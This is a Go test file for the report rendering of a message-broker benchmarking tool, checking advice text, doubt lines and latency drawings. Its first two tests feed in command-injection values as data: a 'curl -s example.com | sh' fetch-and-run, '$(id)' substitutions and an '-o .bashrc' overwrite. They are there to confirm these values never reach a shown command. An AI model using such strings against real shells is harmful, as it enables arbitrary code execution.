package reports

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/brokermark/brokermark/internal/advise"
	"github.com/brokermark/brokermark/internal/advise/advisetest"
	"github.com/brokermark/brokermark/internal/document"
	"github.com/brokermark/brokermark/internal/figure"
	"github.com/brokermark/brokermark/internal/render"
	"github.com/brokermark/brokermark/internal/store"
	"github.com/brokermark/brokermark/internal/study"
	"github.com/brokermark/brokermark/internal/usual"
)

func init() {
	usual.Register("jetstream", usual.Defaults{
		Settings: map[string]string{"client.AckWait": "30s"}, // what Measured sets
		Means: func(g usual.Guarantee) string {
			return fmt.Sprintf("topic: storage=file (%s, %s, %d)", g.Delivery, g.Persistence, g.Replicas)
		},
	})
}

func TestADecisionShowsACommandThatDoesOneThingOnly(t *testing.T) {
	for persistence, shown := range map[string]bool{"log": true, "log --p99 20ms; curl -s example.com | sh #": false, "$(id)": false, "log -o .bashrc": false, "-o": false} {
		spec := study.Spec{Persistence: persistence, Delivery: "at-least-once", SubscriptionsPerTopic: 1}
		spec.Curve.Rates, spec.MessageSize = []float64{5000, 15000}, study.Sizes{{Size: 100, Weight: 1}}
		d, err := Decision(advise.Advice{Case: &advise.Case{Spec: spec, Bound: 2e7}, Answer: advise.Unknown}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, b := range d.Blocks {
			if l, ok := b.(document.Listing); ok {
				found = found || strings.HasPrefix(l.Text, "brokermark advise --rate 5000 --peak 15000")
			}
		}
		if found != shown {
			t.Errorf("with persistence %q a command is shown: %v, want %v", persistence, found, shown)
		}
	}
}

func TestTheCommandThatRepeatsADecisionNamesEachContender(t *testing.T) {
	spec := study.Spec{Persistence: "log", Delivery: "at-least-once"}
	spec.Curve.Rates, spec.MessageSize = []float64{5000}, study.Sizes{{Size: 100, Weight: 1}}
	command, others := repeatCommand(&advise.Case{Spec: spec, Bound: 2e7, Names: []string{
		"kafka@3.9.0", "rabbitmq at 10.0.0.1:5672,10.0.0.2:5672", "kafka, batched", "nats at $(id):4222", "redis",
	}})
	if want := " --brokers kafka@3.9.0,redis --attach rabbitmq=10.0.0.1:5672,10.0.0.2:5672"; !strings.HasSuffix(command, want) {
		t.Errorf("%q; it is to end with %q", command, want)
	}
	if want := []string{"kafka, batched", "nats at $(id):4222"}; !slices.Equal(others, want) {
		t.Errorf("not named are %q, want %q", others, want)
	}
}

// measuredCase is a case of which each contender was measured so many times; edit changes each record, or returns false to leave it out.
func measuredCase(t *testing.T, repetitions int, edit func(*store.Record) bool, contenders ...advisetest.Planted) (*advise.Case, []store.Record) {
	t.Helper()
	w := advise.Wish{Rate: 5000, Peak: 15_000, P99: 20 * time.Millisecond, Hold: 10 * time.Second}
	for _, s := range [][2]string{{"delivery", "at-least-once"}, {"persistence", "log"}} { // in this order, on which the study's name depends
		w.Settings = append(w.Settings, advise.Setting{Flag: "--" + s[0], Path: s[0], Value: s[1]})
	}
	for _, p := range contenders {
		set := map[string]any{"broker": strings.Fields(p.Name)[0], "client": map[string]any{"seed": len(p.Name)}}
		w.Contenders = append(w.Contenders, advise.Contender{Name: p.Name, Set: set, Killable: true})
	}
	s, err := w.Study("test")
	if err != nil {
		t.Fatal(err)
	}
	points, err := s.Points()
	if err != nil {
		t.Fatal(err)
	}
	var kept []store.Record
	for _, r := range advisetest.Measured(points, repetitions, contenders...) {
		if edit == nil || edit(&r) {
			kept = append(kept, r)
		}
	}
	return advise.CaseOf(points), kept
}

// Contenders as a user may have them.
var (
	jetstream = advisetest.Planted{Name: "jetstream", P99: 3 * time.Millisecond, Capacity: 70_000, Cost: 2}
	kafka     = advisetest.Planted{Name: "kafka", P99: 8 * time.Millisecond, Capacity: 300_000, Cost: 5}
	rabbitmq  = advisetest.Planted{Name: "rabbitmq", P99: 2 * time.Millisecond, Capacity: 40_000, Cost: 12}
	redis     = advisetest.Planted{Name: "redis", P99: 2 * time.Millisecond, Capacity: 9_000, Cost: 1}
	pulsar    = advisetest.Planted{Name: "pulsar", P99: 13 * time.Millisecond, Capacity: 90_000, Cost: 1} // at the peak 19.5 ms
	nats      = advisetest.Planted{Name: "nats"}
)

// refuseNATS lets NATS refuse.
func refuseNATS(r *store.Record) bool {
	if r.Axes["contender"] != "nats" {
		return true
	}
	r.Status, r.Reason, r.Result = store.Refused, "delivery: at-least-once is not supported: core NATS keeps no copy of a message", nil
	return r.Repetition == 1
}

// everyClass has a doubt of each class that has a mark.
var everyClass = []string{"generator-lag", "busy-machine", "not-settled", "resent"}

// distrust adds doubts of every class to what was measured of JetStream, and one to Kafka.
func distrust(r *store.Record) bool {
	codes := []string{"generator-lag"}
	if r.Axes["contender"] == "jetstream" {
		codes = everyClass
	}
	for _, code := range codes {
		r.Doubts = append(r.Doubts, store.Doubt{Code: code, Text: "it is planted"})
	}
	return refuseNATS(r)
}

func ofPart(part, contender string, edit func(*store.Record) bool) func(*store.Record) bool {
	return func(r *store.Record) bool {
		return r.Axes["contender"] != contender || r.Axes["sweep"] != part || edit(r)
	}
}

func fail(r *store.Record, reason string) bool {
	r.Status, r.Reason, r.Result = store.Failed, reason, nil
	return true
}

// Every sentence that an advice can say is in one of these.
func TestAdviceReadsAsItDid(t *testing.T) {
	loseWhenKilled := ofPart(advise.Kill, "kafka", func(r *store.Record) bool {
		r.Status, r.Reason = store.Failed, "3 confirmed messages were lost, at-least-once allows none"
		r.Result.Books = store.Books{Due: 9, Sent: 9, Acked: 9, Expected: 9, Received: 6, Lost: 3, LostAcked: 3}
		return true
	})
	unmetered := func(r *store.Record) bool {
		if r.Result == nil {
			return true
		}
		r.Result.Cost = store.Cost{}
		for i := range r.Result.Curve {
			r.Result.Curve[i].Cost = store.Cost{}
		}
		return r.Axes["sweep"] == advise.Load
	}
	sometimes := ofPart(advise.Load, "kafka", func(r *store.Record) bool {
		if r.Repetition > 1 {
			r.Result.Curve[1].Status, r.Result.Curve[1].Reason = store.Failed, "the backlog grew by 12 % of the rate"
		}
		return true
	})
	voided := func(r *store.Record) bool {
		if r.Axes["contender"] == "kafka" && r.Axes["sweep"] == advise.Load {
			r.Status, r.Reason = store.Void, "the generator was 9.1 ms late at p99"
			for i := range r.Result.Curve {
				r.Result.Curve[i].Status, r.Result.Curve[i].Reason = r.Status, r.Reason
			}
		}
		return refuseNATS(r)
	}
	twin := jetstream
	twin.Name = "jetstream tuned"
	slower := jetstream
	slower.Name, slower.P99 = "jetstream slower", 6*time.Millisecond
	near := jetstream
	near.Name, near.Cost = "jetstream tuned", 2.3
	inVain := func(repetitions int) func(*store.Record) bool {
		return ofPart(advise.Headroom, "jetstream", func(r *store.Record) bool {
			if r.Repetition <= repetitions {
				r.Status, r.Reason = store.Failed, "no rate passed: latency 31.5ms is above the bound of 20ms"
				r.Result.Sustainable = &store.Sustainable{High: 34_000}
			}
			return true
		})
	}
	var text bytes.Buffer
	for _, c := range []struct {
		title       string
		repetitions int
		edit        func(*store.Record) bool
		contenders  []advisetest.Planted
	}{
		{"one is taken", 3, distrust, []advisetest.Planted{kafka, rabbitmq, nats, jetstream, redis}},
		{"one alone, not metered, not searched", 3, unmetered, []advisetest.Planted{jetstream}},
		{"two of three searches find nothing", 3, inVain(2), []advisetest.Planted{jetstream}},
		{"no search finds anything", 3, inVain(3), []advisetest.Planted{jetstream}},
		{"one loses messages when it is killed", 3, loseWhenKilled, []advisetest.Planted{jetstream, kafka}},
		{"two are alike", 6, nil, []advisetest.Planted{jetstream, twin, kafka}},
		{"of two that cost alike one is faster", 12, nil, []advisetest.Planted{jetstream, slower, kafka}},
		{"two can't be told apart yet", 3, nil, []advisetest.Planted{jetstream, near, kafka}},
		{"the cheapest may miss the bound", 3, nil, []advisetest.Planted{pulsar, kafka}},
		{"the only one may miss the bound", 3, nil, []advisetest.Planted{pulsar}},
		{"the only one is void", 3, voided, []advisetest.Planted{nats, kafka}},
		{"one fails in most repetitions", 3, sometimes, []advisetest.Planted{kafka}},
		{"none is fast enough", 3, refuseNATS, []advisetest.Planted{redis, nats}},
		{"none can be started", 1, func(r *store.Record) bool { return fail(r, "no broker: Java is missing") }, []advisetest.Planted{kafka, pulsar}},
		{"nothing was measured", 1, func(*store.Record) bool { return false }, []advisetest.Planted{kafka}},
	} {
		question, records := measuredCase(t, c.repetitions, c.edit, c.contenders...)
		fmt.Fprintf(&text, "=== %s\n\n%s\n", c.title, rendered(t, Advice(question.Decide(records)), "terminal", 80))
	}
	golden(t, "advice.txt", text.Bytes())
	question, records := measuredCase(t, 3, distrust, kafka, rabbitmq, nats, jetstream, redis)
	golden(t, "advice-wide.txt", rendered(t, Advice(question.Decide(records)), "terminal", 200))
	_, elsewhere := measuredCase(t, 3, func(r *store.Record) bool { r.Host.Name = "bench-2"; return refuseNATS(r) }, kafka, jetstream)
	d, err := Decision(question.Decide(records), records, elsewhere)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "decision.md", rendered(t, d, "markdown", 0))
	golden(t, "decision.html", []byte(render.Fragment(d.Blocks, "d", 2)))
}

// The screen says in one line each what there is to say against the figures of the answer and of the runner-up, whatever that is.
func TestTheScreenHasTheDoubtsOfTheAnswerAndOfTheRunnerUp(t *testing.T) {
	long := jetstream
	long.Name = "jetstream " + strings.Repeat("with settings of its own ", 9) + "too"
	every := func(r *store.Record) bool {
		for _, code := range everyClass {
			r.Doubts = append(r.Doubts, store.Doubt{Code: code, Text: "it is planted"})
		}
		return true
	}
	for _, width := range []int{80, 200} {
		for _, c := range []struct {
			edit       func(*store.Record) bool
			contenders []advisetest.Planted
			want       []string // beginnings of the lines about doubts
		}{
			{distrust, []advisetest.Planted{kafka, rabbitmq, nats, jetstream, redis}, []string{"Doubts about jetstream (n=9): generator (9), machine (9), ", "Doubts about kafka (n=9): generator (9)."}},
			{nil, []advisetest.Planted{kafka, jetstream}, []string{"Doubts about jetstream (n=9): none.", "Doubts about kafka (n=9): none."}},
			{every, []advisetest.Planted{long, redis}, []string{"Doubts about jetstream with", "Doubts about redis (n=9): "}},
			{nil, []advisetest.Planted{redis}, []string{"Doubts about redis (n=9): none."}},
		} {
			question, records := measuredCase(t, 3, c.edit, c.contenders...)
			var lines []string
			for line := range strings.Lines(string(rendered(t, Advice(question.Decide(records)), "terminal", width))) {
				if strings.Contains(line, "Doubts about") {
					lines = append(lines, strings.TrimSpace(line))
				}
			}
			if !slices.EqualFunc(lines, c.want, strings.HasPrefix) {
				t.Errorf("at %d columns %q, want lines that begin with %q", width, lines, c.want)
			}
			for _, line := range lines {
				if utf8.RuneCountInString(line) > 80 || !strings.HasSuffix(line, ".") {
					t.Errorf("not a sentence in one line: %q", line)
				}
			}
		}
	}
}

// A contender that left early shows the rates that it had, and one of which nothing was measured isn't there.
func TestADecisionDrawsWhatWasMeasuredBelowItsTable(t *testing.T) {
	left := func(r *store.Record) bool {
		if r.Axes["contender"] == "redis" && r.Result != nil && len(r.Result.Curve) > 1 {
			r.Result.Curve = r.Result.Curve[:1]
		}
		return refuseNATS(r)
	}
	question, records := measuredCase(t, 3, left, kafka, rabbitmq, nats, jetstream, redis)
	a := question.Decide(records)
	isDrawing := func(b document.Block) bool { _, ok := b.(document.Drawing); return ok }
	if slices.ContainsFunc(Advice(a).Blocks, isDrawing) {
		t.Error("the screen has a drawing")
	}
	decision, err := Decision(a, records, nil)
	if err != nil {
		t.Fatal(err)
	}
	at := slices.IndexFunc(decision.Blocks, isDrawing)
	if at < 1 {
		t.Fatal("no drawing")
	}
	if _, isBelow := decision.Blocks[at-1].(document.Table); !isBelow {
		t.Errorf("the drawing stands below %T", decision.Blocks[at-1])
	}
	d := decision.Blocks[at].(document.Drawing)
	if want := []string{"jetstream", "kafka", "rabbitmq", "redis"}; !slices.Equal(d.Lines, want) {
		t.Errorf("contenders %q, want %q", d.Lines, want)
	}
	p, marks := d.Panels[0], map[string][]string{}
	for _, m := range p.Marks {
		if m.Y.Kind != document.Interval {
			t.Errorf("%s has no interval: %+v", d.Lines[m.Line], m.Y)
		}
		marks[d.Lines[m.Line]] = append(marks[d.Lines[m.Line]], p.Across.Values[int(m.X)])
	}
	if got := fmt.Sprint(marks); got != "map[jetstream:[5k/s 15k/s] kafka:[5k/s 15k/s] rabbitmq:[5k/s 15k/s] redis:[5k/s]]" || p.Up.Bound != 20e6 {
		t.Errorf("%s, bound %v", got, p.Up.Bound)
	}
	if f, err := figure.Draw(d, figure.Options{}); err != nil || len(f.Panels) != 1 {
		t.Errorf("%v, %v", f, err)
	}
}

func TestADecisionWithoutAnyLatencyHasNoDrawing(t *testing.T) {
	question, records := measuredCase(t, 3, refuseNATS, nats)
	if d, isMeasured := contenderDrawing(question.Decide(records)); isMeasured {
		t.Errorf("%+v", d)
	}
}
